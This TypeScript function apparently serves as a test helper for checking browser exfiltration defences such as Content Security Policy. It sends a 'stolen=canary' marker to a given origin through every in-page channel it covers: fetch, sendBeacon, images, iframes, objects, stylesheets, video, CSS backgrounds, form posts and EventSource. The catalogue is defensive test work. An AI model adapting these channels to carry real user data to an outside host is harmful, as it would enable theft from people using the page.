/** Runs in a page: every way to send something to another origin without leaving the page. */
export async function sendEverywhere(origin: string): Promise<void> {
  const url = (by: string): string => `${origin}/by-${by}?stolen=canary`;
  await fetch(url('fetch'), { mode: 'no-cors' }).catch(() => {});
  await fetch(url('post'), { method: 'POST', body: 'canary', mode: 'no-cors' }).catch(() => {});
  navigator.sendBeacon(url('beacon'), 'canary');
  new Image().src = url('image');
  const add = (tag: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) {
      try {
        element.setAttribute(name, value);
      } catch {
        // Trusted Types keep it from being written at all.
      }
    }
    document.body.append(element);
    return element;
  };
  add('iframe', { src: url('iframe') });
  add('object', { data: url('object') });
  add('link', { rel: 'stylesheet', href: url('stylesheet') });
  add('video', { src: url('video') });
  add('div', { style: `background: url("${url('style')}")` });
  const form = add('form', { action: url('form'), target: 'sink', method: 'post' });
  add('iframe', { name: 'sink' });
  try {
    if (form instanceof HTMLFormElement) form.submit();
  } catch {
    // Firefox throws what it keeps from being sent.
  }
  new EventSource(url('event-source')).onerror = (event) => {
    if (event.target instanceof EventSource) event.target.close();
  };
}
